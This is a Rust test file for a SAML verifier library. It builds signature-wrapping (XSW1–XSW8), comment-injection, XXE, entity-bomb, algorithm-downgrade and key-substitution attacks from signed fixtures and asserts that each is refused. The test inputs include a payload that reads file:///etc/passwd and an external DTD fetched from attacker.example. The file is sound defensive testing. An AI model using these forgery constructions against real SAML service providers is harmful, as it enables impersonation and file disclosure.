//! Every known way to make a SAML verifier read bytes other than those it verified, and the
//! other attacks named in the SAML issue, each refused. Attacks are built from fixtures signed by
//! real signing code (fixtures/generate.py), edited the way an attacker would edit them.

mod common;

use std::ops::Range;

use common::Fixture;
use lanyard_saml::dsig::Policy;
use lanyard_saml::response::{self, Expected, Identity};
use lanyard_saml::xml::{self, Limits, NS_ASSERTION, NS_DSIG, NS_PROTOCOL};
use lanyard_saml::Error;

const VICTIM: &str = "ada@acme.example";
const ATTACKER: &str = "eve@acme.example";

fn run(f: &Fixture, xml: &str) -> Result<Identity, Error> {
    response::validate(xml.as_bytes(), &f.connection(), f.expected(), f.now_ms())
}

/// Refused, and never with the attacker's identity.
fn refused(f: &Fixture, xml: &str, what: &str) -> Error {
    match run(f, xml) {
        Ok(id) => panic!("{what}: accepted as {:?}", id.name_id),
        Err(e) => e,
    }
}

/// The byte range of the `n`th element `{ns}local` in `xml`.
fn range(xml: &str, ns: &str, local: &str, n: usize) -> Range<usize> {
    let doc = xml::parse(
        xml.as_bytes(),
        Limits {
            max_bytes: 1 << 20,
            ..Limits::default()
        },
    )
    .unwrap();
    let node = doc
        .descendants()
        .filter(|d| xml::is(*d, ns, local))
        .nth(n)
        .unwrap_or_else(|| panic!("no {local} #{n}"));
    node.range()
}

fn text_of(xml: &str, r: &Range<usize>) -> String {
    xml[r.clone()].to_string()
}

fn splice(xml: &str, r: &Range<usize>, new: &str) -> String {
    format!("{}{}{}", &xml[..r.start], new, &xml[r.end..])
}

fn insert(xml: &str, at: usize, new: &str) -> String {
    format!("{}{}{}", &xml[..at], new, &xml[at..])
}

/// The assertion of `xml` turned into the attacker's: other subject, other ID, no signature.
fn evil_assertion(xml: &str) -> String {
    let a = range(xml, NS_ASSERTION, "Assertion", 0);
    let mut evil = text_of(xml, &a);
    if let Some(sig) = evil
        .find("Signature")
        .map(|_| range(&evil, NS_DSIG, "Signature", 0))
    {
        evil = splice(&evil, &sig, "");
    }
    let id = attr(&evil, "ID");
    evil.replacen(VICTIM, ATTACKER, 1)
        .replacen(&format!("ID=\"{id}\""), "ID=\"_evil\"", 1)
}

fn attr(element_xml: &str, name: &str) -> String {
    let start = element_xml.find(&format!(" {name}=\"")).unwrap() + name.len() + 3;
    let end = element_xml[start..].find('"').unwrap() + start;
    element_xml[start..end].to_string()
}

/// The end of the start tag of the element at `r`.
fn after_start_tag(xml: &str, r: &Range<usize>) -> usize {
    r.start + xml[r.start..].find('>').unwrap() + 1
}

// --- Signature wrapping (the SAML Raider XSW catalogue) ---------------------------------------

#[test]
fn xsw1_evil_response_with_the_original_inside_the_signature() {
    let f = Fixture::load("generic"); // Response signed
    let sig = text_of(&f.xml, &range(&f.xml, NS_DSIG, "Signature", 0));
    let original = f.xml.trim_start_matches(|c| c != '<').to_string();
    let r = range(&f.xml, NS_PROTOCOL, "Response", 0);
    let evil_root = splice(
        &f.xml,
        &range(&f.xml, NS_ASSERTION, "Assertion", 0),
        &evil_assertion(&f.xml),
    )
    .replacen(&attr(&f.xml[r.clone()], "ID"), "_evil_response", 1);
    let sig_with_object = sig.replacen(
        "</ds:Signature>",
        &format!("<ds:Object>{original}</ds:Object></ds:Signature>"),
        1,
    );
    let evil_sig_range = range(&evil_root, NS_DSIG, "Signature", 0);
    let attack = splice(&evil_root, &evil_sig_range, &sig_with_object);
    refused(&f, &attack, "XSW1");
}

#[test]
fn xsw2_evil_response_with_the_original_beside_the_signature() {
    let f = Fixture::load("generic");
    let r = range(&f.xml, NS_PROTOCOL, "Response", 0);
    let original = text_of(&f.xml, &r);
    let evil_root = splice(
        &f.xml,
        &range(&f.xml, NS_ASSERTION, "Assertion", 0),
        &evil_assertion(&f.xml),
    )
    .replacen(&attr(&original, "ID"), "_evil_response", 1);
    let sig = range(&evil_root, NS_DSIG, "Signature", 0);
    let attack = insert(&evil_root, sig.start, &original);
    refused(&f, &attack, "XSW2");
}

#[test]
fn xsw3_evil_assertion_before_the_signed_one() {
    let f = Fixture::load("entra"); // Assertion signed
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let attack = insert(&f.xml, a.start, &evil_assertion(&f.xml));
    assert!(matches!(
        refused(&f, &attack, "XSW3"),
        Error::AssertionCount(2)
    ));
}

#[test]
fn xsw4_evil_assertion_wrapping_the_signed_one() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let evil = evil_assertion(&f.xml);
    let close = evil.rfind("</").unwrap();
    let wrapped = format!(
        "{}{}{}",
        &evil[..close],
        text_of(&f.xml, &a),
        &evil[close..]
    );
    let attack = splice(&f.xml, &a, &wrapped);
    refused(&f, &attack, "XSW4");
}

#[test]
fn xsw5_evil_assertion_carrying_the_original_signature() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let sig = text_of(&f.xml, &range(&f.xml, NS_DSIG, "Signature", 0));
    let evil = evil_assertion(&f.xml);
    let issuer_end = evil
        .find("</Issuer>")
        .map(|i| i + "</Issuer>".len())
        .or_else(|| evil.find("</saml2:Issuer>").map(|i| i + 15))
        .unwrap();
    let evil_signed = insert(&evil, issuer_end, &sig);
    let unsigned_original = splice(&f.xml, &range(&f.xml, NS_DSIG, "Signature", 0), "");
    let a2 = range(&unsigned_original, NS_ASSERTION, "Assertion", 0);
    let attack = format!(
        "{}{}{}",
        &unsigned_original[..a2.start],
        evil_signed,
        &unsigned_original[a2.start..]
    );
    let _ = a;
    refused(&f, &attack, "XSW5");
}

#[test]
fn xsw6_original_inside_the_evil_assertions_signature_object() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let original = text_of(&f.xml, &a);
    let sig = text_of(&f.xml, &range(&f.xml, NS_DSIG, "Signature", 0));
    let close = sig.rfind("</").unwrap();
    let sig_with_original = format!(
        "{}<Object xmlns=\"http://www.w3.org/2000/09/xmldsig#\">{original}</Object>{}",
        &sig[..close],
        &sig[close..]
    );
    let evil = evil_assertion(&f.xml);
    let subject = range(&evil, NS_ASSERTION, "Subject", 0);
    let attack = splice(
        &f.xml,
        &a,
        &insert(&evil, subject.start, &sig_with_original),
    );
    refused(&f, &attack, "XSW6");
}

#[test]
fn xsw7_original_parked_in_extensions() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let original = text_of(&f.xml, &a);
    let evil = evil_assertion(&f.xml);
    let with_evil = splice(&f.xml, &a, &evil);
    let r = range(&with_evil, NS_PROTOCOL, "Response", 0);
    let ext = format!("<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{original}</samlp:Extensions>");
    let attack = insert(&with_evil, after_start_tag(&with_evil, &r), &ext);
    refused(&f, &attack, "XSW7");
}

#[test]
fn xsw8_original_in_an_object_of_the_evil_assertions_signature() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let original = text_of(&f.xml, &a);
    let original_unsigned = splice(&original, &range(&original, NS_DSIG, "Signature", 0), "");
    let sig = text_of(&f.xml, &range(&f.xml, NS_DSIG, "Signature", 0));
    let close = sig.rfind("</").unwrap();
    let sig_obj = format!(
        "{}<Object xmlns=\"http://www.w3.org/2000/09/xmldsig#\">{original_unsigned}</Object>{}",
        &sig[..close],
        &sig[close..]
    );
    let evil = evil_assertion(&f.xml).replacen(
        "ID=\"_evil\"",
        &format!("ID=\"{}\"", attr(&original, "ID")),
        1,
    );
    let subject = range(&evil, NS_ASSERTION, "Subject", 0);
    let attack = splice(&f.xml, &a, &insert(&evil, subject.start, &sig_obj));
    refused(&f, &attack, "XSW8");
}

// --- Reading what was signed, and only that ------------------------------------------------

#[test]
fn a_comment_injected_into_the_name_id_after_signing_yields_the_full_value() {
    let f = Fixture::load("entra");
    let attack = f
        .xml
        .replacen("ada@acme.example", "ada@acme.example<!---->.evil.com", 1);
    // The comment changes nothing signed; the text after it is not signed, so this is refused
    // by the digest — and were it accepted, the value read would be the whole string.
    match run(&f, &attack) {
        Ok(id) => assert_eq!(id.name_id, "ada@acme.example.evil.com"),
        Err(e) => assert!(matches!(e, Error::DigestMismatch { .. }), "{e:?}"),
    }
    let harmless = f
        .xml
        .replacen("ada@acme.example", "ada@acme<!---->.example", 1);
    assert_eq!(
        run(&f, &harmless).unwrap().name_id,
        VICTIM,
        "a comment splitting signed text is read around"
    );
}

#[test]
fn unsigned_messages_are_refused() {
    let f = Fixture::load("unsigned");
    assert_eq!(refused(&f, &f.xml, "unsigned"), Error::Unsigned);
    let okta = Fixture::load("okta");
    let mut stripped = okta.xml.clone();
    while stripped.contains("SignatureValue") {
        let sig = range(&stripped, NS_DSIG, "Signature", 0);
        stripped = splice(&stripped, &sig, "");
    }
    assert_eq!(refused(&okta, &stripped, "stripped"), Error::Unsigned);
}

#[test]
fn a_key_from_key_info_is_never_trusted() {
    let f = Fixture::load("attacker-keyinfo");
    assert_eq!(refused(&f, &f.xml, "attacker key"), Error::UnknownSigner);
}

#[test]
fn a_reference_to_another_element_is_refused() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let id = attr(&f.xml[a.clone()], "ID");
    let attack = f
        .xml
        .replacen(&format!("URI=\"#{id}\""), "URI=\"#_other\"", 1);
    assert!(matches!(
        refused(&f, &attack, "reference"),
        Error::SignatureStructure(_)
    ));
    let attack = f.xml.replacen(&format!("URI=\"#{id}\""), "URI=\"\"", 1);
    assert!(matches!(
        refused(&f, &attack, "empty reference"),
        Error::SignatureStructure(_)
    ));
}

#[test]
fn an_assertion_beside_an_encrypted_one_is_refused() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let attack = insert(
        &f.xml,
        a.start,
        "<EncryptedAssertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>",
    );
    assert!(matches!(
        refused(&f, &attack, "beside encrypted"),
        Error::AssertionCount(2)
    ));
}

#[test]
fn duplicate_ids_are_refused() {
    let f = Fixture::load("entra");
    let a = range(&f.xml, NS_ASSERTION, "Assertion", 0);
    let id = attr(&f.xml[a.clone()], "ID");
    let r = range(&f.xml, NS_PROTOCOL, "Response", 0);
    let ext = format!("<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"><x ID=\"{id}\"/></samlp:Extensions>");
    let attack = insert(&f.xml, after_start_tag(&f.xml, &r), &ext);
    assert!(matches!(
        refused(&f, &attack, "duplicate id"),
        Error::SignatureStructure(_)
    ));
}

#[test]
fn signature_parts_placed_elsewhere_are_refused() {
    let f = Fixture::load("entra");
    let sig = text_of(&f.xml, &range(&f.xml, NS_DSIG, "Signature", 0));
    let r = range(&f.xml, NS_PROTOCOL, "Response", 0);
    // A second Signature in the Response's extensions.
    let ext = format!("<samlp:Extensions xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{sig}</samlp:Extensions>");
    let attack = insert(&f.xml, after_start_tag(&f.xml, &r), &ext);
    assert!(matches!(
        refused(&f, &attack, "second signature"),
        Error::SignatureStructure(_)
    ));
    // A second SignedInfo / DigestValue inside the signature, and an Object.
    for (local, extra) in [
        (
            "SignedInfo",
            "<SignedInfo xmlns=\"http://www.w3.org/2000/09/xmldsig#\"/>",
        ),
        (
            "DigestValue",
            "<DigestValue xmlns=\"http://www.w3.org/2000/09/xmldsig#\">AAAA</DigestValue>",
        ),
        (
            "Reference",
            "<Reference xmlns=\"http://www.w3.org/2000/09/xmldsig#\" URI=\"#x\"/>",
        ),
    ] {
        let target = range(&f.xml, NS_DSIG, local, 0);
        let attack = insert(&f.xml, target.end, extra);
        assert!(
            matches!(refused(&f, &attack, local), Error::SignatureStructure(_)),
            "{local}"
        );
    }
    let s = range(&f.xml, NS_DSIG, "Signature", 0);
    let close = f.xml[..s.end].rfind("</").unwrap();
    let attack = insert(
        &f.xml,
        close,
        "<Object xmlns=\"http://www.w3.org/2000/09/xmldsig#\"/>",
    );
    assert!(matches!(
        refused(&f, &attack, "object"),
        Error::SignatureStructure(_)
    ));
}

#[test]
fn doctype_xxe_and_entity_bombs_are_refused() {
    let f = Fixture::load("entra");
    let body = f.xml.trim_start_matches(|c| c != '<');
    let body = body
        .strip_prefix("<?xml")
        .map(|b| &b[b.find("?>").unwrap() + 2..])
        .unwrap_or(body);
    for prolog in [
        "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r SYSTEM \"http://attacker.example/dtd\">",
    ] {
        let attack = format!("{prolog}{body}");
        assert!(
            matches!(refused(&f, &attack, prolog), Error::Malformed(_)),
            "{prolog}"
        );
    }
}

#[test]
fn xslt_and_xpath_transforms_are_refused() {
    let f = Fixture::load("xpath-transform");
    assert!(matches!(
        refused(&f, &f.xml, "xpath"),
        Error::SignatureStructure(_)
    ));
    let entra = Fixture::load("entra");
    let t = range(&entra.xml, NS_DSIG, "Transform", 0);
    let xslt = "<Transform xmlns=\"http://www.w3.org/2000/09/xmldsig#\" Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>";
    let attack = insert(&entra.xml, t.start, xslt);
    assert!(matches!(
        refused(&entra, &attack, "xslt"),
        Error::SignatureStructure(_)
    ));
}

#[test]
fn hmac_is_refused() {
    let f = Fixture::load("entra");
    let m = range(&f.xml, NS_DSIG, "SignatureMethod", 0);
    let method = text_of(&f.xml, &m);
    let alg = attr(&method, "Algorithm");
    let attack = f
        .xml
        .replacen(&alg, "http://www.w3.org/2000/09/xmldsig#hmac-sha1", 1);
    assert!(matches!(
        refused(&f, &attack, "hmac"),
        Error::AlgorithmNotAllowed(_)
    ));
    let attack = f.xml.replacen(
        &alg,
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        1,
    );
    assert!(matches!(
        refused(&f, &attack, "hmac"),
        Error::AlgorithmNotAllowed(_)
    ));
    if common::dir().join("hmac/response.xml").exists() {
        let h = Fixture::load("hmac");
        assert!(matches!(
            refused(&h, &h.xml, "hmac fixture"),
            Error::AlgorithmNotAllowed(_)
        ));
    }
}

#[test]
fn sha1_only_when_the_connection_allows_it() {
    let f = Fixture::load("sha1");
    assert!(matches!(
        refused(&f, &f.xml, "sha1"),
        Error::AlgorithmNotAllowed(_)
    ));
    let mut c = f.connection();
    c.policy = Policy { allow_sha1: true };
    let id = response::validate(f.xml.as_bytes(), &c, f.expected(), f.now_ms()).unwrap();
    assert_eq!(id.name_id, VICTIM);
}

#[test]
fn an_edited_attribute_breaks_the_digest() {
    let f = Fixture::load("entra");
    let attack = f.xml.replacen(">Lovelace<", ">Lovelacf<", 1);
    assert_ne!(attack, f.xml, "the fixture has the value to edit");
    assert_eq!(
        refused(&f, &attack, "edit"),
        Error::DigestMismatch {
            signed: "Assertion"
        }
    );
}

#[test]
fn comments_in_digest_and_signature_values_are_refused_and_whitespace_is_ignored() {
    let f = Fixture::load("entra");
    for local in ["DigestValue", "SignatureValue"] {
        let v = range(&f.xml, NS_DSIG, local, 0);
        let start = after_start_tag(&f.xml, &v);
        let attack = insert(&f.xml, start + 4, "<!---->");
        assert!(
            matches!(refused(&f, &attack, local), Error::SignatureStructure(_)),
            "{local}"
        );
    }
    // Line-wrapped base64 (as xmlsec1 writes it) is the same signature value…
    let v = range(&f.xml, NS_DSIG, "SignatureValue", 0);
    let wrapped = insert(&f.xml, after_start_tag(&f.xml, &v) + 4, "\n  ");
    assert_eq!(run(&f, &wrapped).unwrap().name_id, VICTIM);
    // …but DigestValue sits inside SignedInfo, so whitespace added there after signing changes
    // the signed bytes and the signature no longer verifies.
    let v = range(&f.xml, NS_DSIG, "DigestValue", 0);
    let attack = insert(&f.xml, after_start_tag(&f.xml, &v) + 4, "\n  ");
    assert_eq!(
        refused(&f, &attack, "digest whitespace"),
        Error::UnknownSigner
    );
}

// --- Conditions, audience, recipient, destination, issuer, request ----------------------------

#[test]
fn time_window_is_enforced_with_skew() {
    let f = Fixture::load("entra");
    let c = f.connection();
    let at = |t: &str| {
        response::validate(
            f.xml.as_bytes(),
            &c,
            f.expected(),
            lanyard_saml::time::parse(t, "t").unwrap(),
        )
    };
    assert!(matches!(
        at("2026-01-01T00:20:00Z"),
        Err(Error::Expired { .. })
    ));
    assert!(matches!(
        at("2025-12-31T23:50:00Z"),
        Err(Error::NotYetValid { .. })
    ));
    assert!(
        at("2026-01-01T00:06:00Z").is_ok(),
        "within the 180 s skew of the confirmation's expiry"
    );
    assert!(
        matches!(at("2026-01-01T00:08:01Z"), Err(Error::Expired { .. })),
        "past the skew"
    );
}

#[test]
fn audience_recipient_destination_issuer_and_request_must_match() {
    let f = Fixture::load("entra");
    let mut c = f.connection();
    c.sp_entity_id = "https://other.example/saml";
    assert!(matches!(
        response::validate(f.xml.as_bytes(), &c, f.expected(), f.now_ms()),
        Err(Error::WrongAudience { .. })
    ));

    let mut c = f.connection();
    c.idp_issuer = "https://idp.other.example";
    assert!(matches!(
        response::validate(f.xml.as_bytes(), &c, f.expected(), f.now_ms()),
        Err(Error::Mismatch { .. })
    ));

    // Destination is on the unsigned envelope here: an edit is still refused.
    let attack = f.xml.replacen(
        "Destination=\"https://sp.lanyard.test/saml\"",
        "Destination=\"https://evil.example/saml\"",
        1,
    );
    assert!(matches!(
        refused(&f, &attack, "destination"),
        Error::Mismatch {
            what: "Response Destination",
            ..
        }
    ));
    // Without a Destination, the signed Recipient decides.
    let no_dest = f
        .xml
        .replacen("Destination=\"https://sp.lanyard.test/saml\"", "", 1);
    let mut c = f.connection();
    c.acs_url = "https://sp.lanyard.test/other-acs";
    let e = response::validate(no_dest.as_bytes(), &c, f.expected(), f.now_ms()).unwrap_err();
    assert!(
        matches!(
            e,
            Error::Mismatch {
                what: "SubjectConfirmationData Recipient",
                ..
            }
        ),
        "{e}"
    );

    let c = f.connection();
    let e = response::validate(
        f.xml.as_bytes(),
        &c,
        Expected::Request("_req_other"),
        f.now_ms(),
    )
    .unwrap_err();
    assert!(matches!(e, Error::UnknownInResponseTo(_)), "{e}");
    let e =
        response::validate(f.xml.as_bytes(), &c, Expected::Unsolicited, f.now_ms()).unwrap_err();
    assert!(
        matches!(e, Error::UnknownInResponseTo(_)),
        "a solicited response cannot pass as unsolicited: {e}"
    );
}

#[test]
fn oversized_input_is_refused_before_parsing() {
    let f = Fixture::load("entra");
    let padded = format!("{}{}", f.xml, " ".repeat(300 * 1024));
    assert!(matches!(
        refused(&f, &padded, "oversized"),
        Error::TooLarge { .. }
    ));
    let b64 = "A".repeat(400 * 1024);
    assert!(matches!(
        response::decode_post(&b64, Limits::default()),
        Err(Error::TooLarge { .. })
    ));
}

#[test]
fn idp_status_failures_carry_the_idps_code_and_message() {
    let f = Fixture::load("entra");
    let attack = f.xml.replacen(
        "urn:oasis:names:tc:SAML:2.0:status:Success\"/>",
        "urn:oasis:names:tc:SAML:2.0:status:Responder\"><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:RequestDenied\"/></samlp:StatusCode><samlp:StatusMessage>user not assigned</samlp:StatusMessage>",
        1,
    );
    assert_ne!(attack, f.xml, "fixture has a self-closing StatusCode");
    match refused(&f, &attack, "status") {
        Error::Status { code, message } => {
            assert!(
                code.contains("Responder") && code.contains("RequestDenied"),
                "{code}"
            );
            assert_eq!(message.as_deref(), Some("user not assigned"));
        }
        other => panic!("{other}"),
    }
}

#[test]
fn an_expired_certificate_is_refused_unless_allowed() {
    let f = Fixture::load("entra");
    let later = lanyard_saml::time::parse("2036-01-01T00:00:00Z", "t").unwrap();
    let e = response::validate(f.xml.as_bytes(), &f.connection(), f.expected(), later).unwrap_err();
    match &e {
        Error::CertificateExpired { not_after, .. } => {
            assert_eq!(not_after, "2035-01-01T00:00:00Z")
        }
        other => panic!("{other}"),
    }
    assert!(
        e.to_string().contains("2035-01-01"),
        "the message names the expiry: {e}"
    );
    // Allowed, the certificate is used; the assertion itself is then too old.
    let mut c = f.connection();
    c.allow_expired_certificate = true;
    assert!(matches!(
        response::validate(f.xml.as_bytes(), &c, f.expected(), later),
        Err(Error::Expired { .. })
    ));
}
